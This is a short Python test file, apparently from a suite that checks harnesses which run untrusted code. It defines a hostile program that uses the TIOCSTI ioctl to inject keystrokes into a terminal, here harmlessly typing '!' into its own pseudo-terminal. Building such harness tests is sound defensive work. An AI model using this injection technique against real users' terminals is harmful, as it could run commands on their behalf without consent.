"""Types into the terminal of whoever runs the harness. (Here: into one of its own.)"""

from hostile import Attack, Tier

PROGRAM = """
import fcntl, os, termios
def f(x):
    ours, theirs = os.openpty()
    os.setsid() if os.getsid(0) != os.getpid() else None
    fcntl.ioctl(theirs, termios.TIOCSCTTY, 0)
    fcntl.ioctl(theirs, termios.TIOCSTI, b"!")
    return 2
"""

ATTACK = Attack(PROGRAM, tier=Tier.WEAK, needs_root=True, needs="a kernel that lets root type")
